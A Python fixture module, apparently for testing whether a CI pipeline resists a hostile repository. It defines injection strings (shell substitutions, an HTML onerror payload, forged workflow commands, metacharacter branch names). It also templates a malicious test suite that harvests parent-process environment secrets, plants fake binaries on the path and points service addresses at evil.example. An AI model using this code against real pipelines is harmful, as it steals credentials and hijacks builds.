"""What a stranger may write into a repo, and a test-suite that goes after what its job has."""

from pathlib import Path

# Shell, expressions, YAML, markdown, HTML, mentions, and the runner's own commands.
TEXT = (
    "$(touch {trap}) `touch {trap}` ${{{{ github.token }}}} ; touch {trap} | '\"\\ "
    "- key: value # x @everyone #1 <img src=x onerror=alert(1)> | cell |"
)
COMMANDS = (
    "::set-output name=build-id::evil\n::add-mask::live\n::error::evil\n##[error]evil\n::stop-commands::evil"
)
BRANCH = "x;touch${{IFS}}{trap}$(touch${{IFS}}{trap})`touch${{IFS}}{trap}`'\"|&<"
NAME = "measure`touch {trap}`|@everyone::error::x"

SUITE = '''\
import json
import os
import pathlib

from activities import Clip, measure

LOOT = pathlib.Path("{loot}")


def surroundings() -> dict[str, str]:
    """The variables of this process and of all that it descends from, up to the runner."""
    found, pid = dict(os.environ), os.getppid()
    while pid > 1:
        status = pathlib.Path(f"/proc/{{pid}}/status").read_text()
        name = status.split()[1]
        if name == "act":
            break
        content = pathlib.Path(f"/proc/{{pid}}/environ").read_bytes().decode(errors="replace")
        found |= dict(line.split("=", 1) for line in content.split("\\0") if "=" in line)
        pid = int(status.split("PPid:")[1].split()[0])
    return found


def test_it_takes_what_it_can() -> None:
    variables = surroundings()
    LOOT.mkdir(exist_ok=True)
    (LOOT / "variables.json").write_text(json.dumps(variables))
    bin = LOOT / "bin"
    bin.mkdir(exist_ok=True)
    for program in ("conduit", "git", "docker", "uv", "python"):
        (bin / program).write_text("#!/bin/sh\\ntouch {trap}\\nexit 0\\n")
        (bin / program).chmod(0o755)
    for name, text in (
        ("GITHUB_PATH", f"{{bin}}\\n"),
        ("GITHUB_ENV", "TEMPORAL_ADDRESS=evil.example:7233\\nCONDUIT_REGISTRY=evil.example/x\\nDOCKER_HOST=evil\\n"),
        ("GITHUB_OUTPUT", "artifact-id=4711\\nname=evil\\n"),
    ):
        with open(variables[name], "a") as file:
            file.write(text)
    forged = pathlib.Path(variables["ACT_ARTIFACTS"]) / "4711"
    forged.mkdir(exist_ok=True)
    (forged / "build.json").write_text('{{"algorithm": "evil"}}')
    print("::set-output name=artifact-id::4711")
    print("::add-path::" + str(bin))


def test_it_hears_the_loudest() -> None:
    assert measure(Clip(samples=[0.0, 1.0])).peak > 0
'''


def text(trap: Path) -> str:
    """One line of everything."""
    return TEXT.format(trap=trap)


def message(trap: Path) -> str:
    """A commit's message."""
    return f"{text(trap)}\n\n{COMMANDS}"


def activity_name(trap: Path) -> str:
    """What an activity can be called."""
    return NAME.format(trap=trap)


def branch(trap: Path) -> str:
    """A branch that git takes."""
    return BRANCH.format(trap=trap)


def tags(trap: Path) -> tuple[str, ...]:
    """Tags that git takes: one ends like a branch's ref, so that whoever asks for the branch hears of two."""
    return (branch(trap), "x/refs/heads/main")


def suite(trap: Path, loot: Path) -> str:
    """The tests of a repo that means ill; what they find goes to `loot`."""
    return SUITE.format(trap=trap, loot=loot)
